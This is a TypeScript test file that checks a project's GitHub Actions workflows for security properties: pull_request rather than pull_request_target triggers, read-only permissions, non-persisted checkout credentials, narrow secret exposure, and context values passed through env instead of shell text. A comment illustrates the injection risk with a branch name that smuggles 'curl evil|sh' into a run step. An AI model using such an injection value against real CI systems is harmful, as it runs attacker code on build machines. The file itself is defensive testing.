// The GitHub workflows, parsed: what triggers them and what they may do.
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { load } from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { PROJECT_ROOT } from './helpers/content-fixture.ts';

interface Step {
  id?: string;
  if?: string;
  uses?: string;
  run?: string;
  name?: string;
  with?: Record<string, unknown>;
  env?: Record<string, string>;
}
interface Job {
  permissions?: Record<string, string>;
  steps?: Step[];
  needs?: string;
}
interface Workflow {
  on: Record<string, unknown>;
  permissions: Record<string, string>;
  jobs: Record<string, Job>;
}

const workflow = async (name: string) => load(await readFile(path.join(PROJECT_ROOT, '.github/workflows', name), 'utf8')) as Workflow;
const steps = (wf: Workflow) => Object.values(wf.jobs).flatMap((job) => job.steps ?? []);

describe('pull request workflow', () => {
  it('runs on pull_request (never pull_request_target) with read-only permissions', async () => {
    const wf = await workflow('pull-request.yml');
    expect(Object.keys(wf.on)).toEqual(['pull_request']);
    expect(wf.permissions).toEqual({ contents: 'read' });
    for (const job of Object.values(wf.jobs)) expect(job.permissions).toBeUndefined();
    expect(steps(wf).find((s) => s.uses?.startsWith('actions/checkout'))!.with).toMatchObject({ 'persist-credentials': false });
  });

  it('validates, summarises, builds, tests and uploads the site', async () => {
    const runs = steps(await workflow('pull-request.yml')).map((s) => s.run ?? s.uses ?? '');
    const order = ['npm run validate', 'src/cli/pr-summary.ts', 'npm run build', 'npm test', 'actions/upload-artifact'].map((needle) =>
      runs.findIndex((r) => r.includes(needle)),
    );
    expect(order.every((index) => index >= 0)).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
  });

  it('never pastes an expression into a shell command: context values reach run steps through env', async () => {
    // GitHub replaces ${{ … }} in the script's text before the shell reads it, so a branch name
    // like "x\";curl evil|sh;#" would run as code; an environment variable stays data.
    const files = (await readdir(path.join(PROJECT_ROOT, '.github/workflows'))).filter((file) => /\.ya?ml$/.test(file));
    expect(files).toEqual(expect.arrayContaining(['publish.yml', 'pull-request.yml']));
    for (const name of files) {
      for (const step of steps(await workflow(name))) {
        expect(step.run ?? '', `${name}: ${step.name ?? step.uses}`).not.toContain('${{');
      }
    }
    const summary = steps(await workflow('pull-request.yml')).find((s) => s.run?.includes('src/cli/pr-summary.ts'))!;
    expect(summary.env).toEqual({ BASE_REF: '${{ github.base_ref }}' });
    expect(summary.run).toContain('"origin/$BASE_REF"');
  });
});

describe('screenshots of every template for review', () => {
  it('the pull request workflow takes them after building, also when a test failed, and uploads them as an artifact', async () => {
    const all = steps(await workflow('pull-request.yml'));
    const build = all.findIndex((s) => s.run === 'npm run build');
    const test = all.findIndex((s) => s.run === 'npm test');
    const shoot = all.findIndex((s) => s.run?.startsWith('npm run screenshots'));
    expect(build).toBeGreaterThanOrEqual(0);
    expect(shoot).toBeGreaterThan(test);
    const screenshots = all[shoot]!;
    const out = /--out (\S+)/.exec(screenshots.run!)![1]!;
    // A failed test must not stop them (they show what failed), a failed build must.
    expect(all[build]!.id).toBeDefined();
    expect(screenshots.if).toContain('!cancelled()');
    expect(screenshots.if).toContain(`steps.${all[build]!.id}.outcome == 'success'`);
    expect(screenshots.env).toEqual(all[test]!.env);
    const upload = all.findIndex((s, index) => index > shoot && s.uses?.startsWith('actions/upload-artifact@') && s.with?.path === out);
    expect(upload, `an upload-artifact step of ${out} after the screenshots`).toBeGreaterThan(shoot);
    expect(all[upload]!.if).toContain(`steps.${screenshots.id}.outcome == 'success'`);
    expect(all[upload]!.with).toMatchObject({ name: 'screenshots' });
  });

  it('.ci/run takes them after the tests, also when a test failed, into a git-ignored folder', async () => {
    const script = await readFile(path.join(PROJECT_ROOT, '.ci/run'), 'utf8');
    const tests = script.indexOf('npm test || tests_status=$?');
    const shoot = script.indexOf('npm run screenshots -- --dist dist --out artifacts/screenshots');
    expect(tests).toBeGreaterThan(0);
    expect(shoot).toBeGreaterThan(tests);
    expect(script.slice(shoot)).toContain('exit "$tests_status"');
    expect((await readFile(path.join(PROJECT_ROOT, '.gitignore'), 'utf8')).split('\n')).toContain('artifacts/');
  });
});

describe('publish workflow', () => {
  it('runs on pushes to main and daily, with least privilege', async () => {
    const wf = await workflow('publish.yml');
    expect(wf.on).toMatchObject({ push: { branches: ['main'] }, schedule: [{ cron: expect.stringMatching(/^\S+ \S+ \* \* \*$/) }] });
    expect(wf.permissions).toEqual({ contents: 'read' });
    expect(wf.jobs.build!.permissions).toBeUndefined();
    expect(wf.jobs.deploy!.permissions).toEqual({ pages: 'write', 'id-token': 'write' });
    expect(wf.jobs.deploy!.needs).toBe('build');
  });

  it('signs credentials with the key from the repository secret, passed only to the build step', async () => {
    const wf = await workflow('publish.yml');
    const withSecret = steps(wf).filter((s) => JSON.stringify(s).includes('secrets.'));
    expect(withSecret.map((s) => s.run)).toEqual(['npm run build']);
    expect(withSecret[0]!.env).toMatchObject({ PARTNERKIT_SIGNING_KEY: '${{ secrets.PARTNERKIT_SIGNING_KEY }}' });
  });

  it('caches between runs, builds with the Pages base path and deploys with deploy-pages', async () => {
    const wf = await workflow('publish.yml');
    const uses = steps(wf).map((s) => s.uses ?? '');
    expect(uses.some((u) => u.startsWith('actions/cache@'))).toBe(true);
    expect(String(steps(wf).find((s) => s.uses?.startsWith('actions/cache@'))!.with!.path)).toContain('node_modules/.cache/partnerkit');
    expect(steps(wf).find((s) => s.run === 'npm run build')!.env).toMatchObject({
      PARTNERKIT_BASE_PATH: expect.stringContaining('steps.pages.outputs.base_path'),
    });
    expect(uses.some((u) => u.startsWith('actions/upload-pages-artifact@'))).toBe(true);
    expect(wf.jobs.deploy!.steps!.map((s) => s.uses)).toEqual([expect.stringMatching(/^actions\/deploy-pages@/)]);
  });

  it('checks out the whole history: the change events are computed from the content’s commits', async () => {
    const checkout = steps(await workflow('publish.yml')).find((s) => s.uses?.startsWith('actions/checkout'))!;
    expect(checkout.with).toMatchObject({ 'persist-credentials': false, 'fetch-depth': 0 });
  });
});
